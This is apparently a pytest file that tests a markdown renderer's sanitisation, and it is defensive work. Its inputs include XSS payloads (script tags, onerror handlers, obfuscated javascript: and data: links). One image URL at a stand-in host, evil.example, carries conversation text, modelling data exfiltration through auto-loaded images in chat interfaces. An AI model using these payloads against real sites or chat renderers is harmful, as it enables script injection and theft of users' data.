import pytest

from apps.core.markdown import render_markdown


def test_script_tags_are_shown_as_text_not_run():
    html = render_markdown("Hello <script>alert('x')</script>")
    assert "<script" not in html
    assert "&lt;script&gt;" in html


def test_image_with_onerror_handler_is_neutralized():
    html = render_markdown('<img src=x onerror="alert(1)">\n\n![ok](https://example.org/a.png)')
    assert "onerror=" not in html.replace("&lt;img src=x onerror=", "")
    assert "<img" not in html


def test_remote_images_are_never_loaded_but_show_their_alt_text_and_address():
    leak = "https://evil.example/p.png?conversation=secret%20plans"
    html = render_markdown(f"Here: ![chart of <results>]({leak}) and ![x][ref]\n\n[ref]: {leak}")
    assert "<img" not in html and "src=" not in html
    assert '<span class="md-image" title="Image not loaded: ' + leak + '">' in html
    assert "[chart of &lt;results&gt;]" in html and "[x]" in html


def test_data_and_local_images_are_not_loaded_either():
    html = render_markdown("![a](data:image/png;base64,AAAA) ![b](/media/secret.png)")
    assert "<img" not in html and html.count('class="md-image"') == 2


def test_an_image_inside_a_link_keeps_the_link_but_not_the_image():
    html = render_markdown("[![logo](https://e.example/l.png)](https://e.example)")
    assert '<a href="https://e.example" rel="noopener noreferrer nofollow">' in html
    assert "<img" not in html


@pytest.mark.parametrize(
    "source",
    [
        "[click](data:text/html,<script>alert(1)</script>)",
        "[click](data:image/svg+xml;base64,PHN2Zz4=)",
        "[click](JaVaScRiPt:alert(1))",
        "[click](&#106;avascript:alert(1))",
        "[click](vbscript:msgbox(1))",
        "<javascript:alert(1)>",
        "[click][r]\n\n[r]: javascript:alert(1)",
    ],
)
def test_script_and_data_links_never_become_hrefs(source):
    html = render_markdown(source)
    assert "href=" not in html


def test_markup_posing_as_our_own_classes_or_styles_stays_text():
    html = render_markdown('<span class="md-image" style="position:fixed">x</span>')
    assert "<span" not in html and "&lt;span" in html


def test_table_cells_keep_their_alignment_and_no_other_style():
    html = render_markdown("| a | b |\n|--:|:-:|\n| 1 | 2 |")
    assert '<td style="text-align:right">1</td>' in html
    assert '<td style="text-align:center">2</td>' in html


def test_javascript_links_lose_their_href():
    html = render_markdown("[click](javascript:alert(1))")
    assert "javascript:" not in html.split("[click]")[0]
    assert 'href="javascript' not in html


def test_code_blocks_keep_their_content_and_language():
    html = render_markdown("```python\nif a < b:\n    print('<b>')\n```")
    assert '<pre><code class="language-python">' in html
    assert "if a &lt; b:" in html
    assert "print('&lt;b&gt;')" in html
